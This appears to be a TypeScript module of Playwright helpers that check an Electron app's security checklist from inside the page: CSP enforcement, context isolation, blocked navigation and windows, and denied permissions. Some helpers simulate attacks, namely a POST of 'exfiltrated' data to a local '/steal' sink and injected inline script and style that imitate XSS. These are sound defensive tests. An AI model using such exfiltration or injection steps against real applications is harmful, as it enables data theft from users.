/// <reference lib="dom" />
/**
 * Items of Electron's security checklist, checked from inside the page. Browser-mode e2e tests and
 * the Electron variant (e2e/electron) run the same checks on the same renderer; each returns what
 * it observed so the test says what went wrong.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Page } from 'playwright-core';

/** A listening server on another origin that counts what reaches it, so a refused fetch is the policy's doing. */
export async function startSink(): Promise<{ url: string; received: () => number; close(): Promise<void> }> {
  let received = 0;
  const server = http.createServer((_req, res) => {
    received++;
    res.writeHead(200, { 'access-control-allow-origin': '*' }).end('ok');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}/steal`,
    received: () => received,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

/**
 * Content-Security-Policy: code from strings is refused. The test's own evaluate() is exempt from
 * the page's policy, so the string goes through a timer, which the page runs under its policy.
 */
export function evalOutcome(page: Page): Promise<string> {
  return page.evaluate(async () => {
    const w = window as unknown as { __evaluated?: boolean };
    (setTimeout as unknown as (code: string, ms: number) => void)('window.__evaluated = true', 0);
    await new Promise((resolve) => setTimeout(resolve, 50));
    return w.__evaluated === true ? 'ran' : 'refused';
  });
}

/** Content-Security-Policy: a script injected inline (as an XSS would) does not run. */
export async function inlineScriptRan(page: Page): Promise<boolean> {
  return page.evaluate(async () => {
    const script = document.createElement('script');
    script.textContent = 'window.__injected = true';
    document.body.append(script);
    await new Promise((resolve) => setTimeout(resolve, 50));
    return (window as unknown as { __injected?: boolean }).__injected === true;
  });
}

/** Content-Security-Policy: the page cannot send data to another origin (pair with startSink to see nothing arrived). */
export function foreignFetchOutcome(page: Page, foreignUrl: string): Promise<string> {
  return page.evaluate(async (url) => {
    try {
      await fetch(url, { method: 'POST', body: 'exfiltrated', mode: 'no-cors' });
      return 'sent';
    } catch (error) {
      return `refused: ${(error as Error).name}`;
    }
  }, foreignUrl);
}

/** Context isolation and no Node integration: nothing of Node in the page, only the narrow bridge. */
export function pageGlobals(page: Page): Promise<{ require: string; process: string; bridgeKeys: string[] }> {
  return page.evaluate(() => {
    const w = window as unknown as { require?: unknown; process?: unknown; personaStudio?: object };
    return { require: typeof w.require, process: typeof w.process, bridgeKeys: w.personaStudio ? Object.keys(w.personaStudio).sort() : [] };
  });
}

/** New windows are denied (Electron: setWindowOpenHandler). */
export function windowOpenResult(page: Page, url: string): Promise<string> {
  return page.evaluate((target) => (window.open(target) === null ? 'denied' : 'opened'), url);
}

/** Navigation away from the app is blocked (Electron: will-navigate). */
export async function urlAfterNavigatingTo(page: Page, url: string): Promise<string> {
  await page.evaluate((target) => {
    location.href = target;
  }, url);
  await page.waitForTimeout(500);
  return page.url();
}

/** Permission requests are denied (Electron: setPermissionRequestHandler). */
export function permissionOutcomes(page: Page): Promise<{ notification: string; media: string }> {
  return page.evaluate(async () => {
    const notification = typeof Notification === 'undefined' ? 'unavailable' : await Notification.requestPermission();
    let media: string;
    try {
      const stream = await navigator.mediaDevices.getUserMedia({ audio: true });
      stream.getTracks().forEach((t) => t.stop());
      media = 'granted';
    } catch (error) {
      media = `refused: ${(error as Error).name}`;
    }
    return { notification, media };
  });
}

/** Content-Security-Policy: a style element injected by a page script (as an XSS would) is not applied. */
export function injectedStyleApplied(page: Page): Promise<boolean> {
  return page.evaluate(async () => {
    const style = document.createElement('style');
    style.textContent = 'body { outline: 7px solid rgb(1, 2, 3) !important; }';
    document.head.append(style);
    await new Promise((resolve) => setTimeout(resolve, 50));
    const applied = getComputedStyle(document.body).outlineColor === 'rgb(1, 2, 3)';
    style.remove();
    return applied;
  });
}

/** Records every CSP violation the page reports from now on (it lasts across reloads); read with cspViolations. */
export async function recordCspViolations(page: Page): Promise<void> {
  await page.context().addInitScript(() => {
    const seen: string[] = [];
    (window as unknown as { __cspViolations: string[] }).__cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`));
  });
}

export function cspViolations(page: Page): Promise<string[]> {
  return page.evaluate(() => (window as unknown as { __cspViolations?: string[] }).__cspViolations ?? ['not recording']);
}
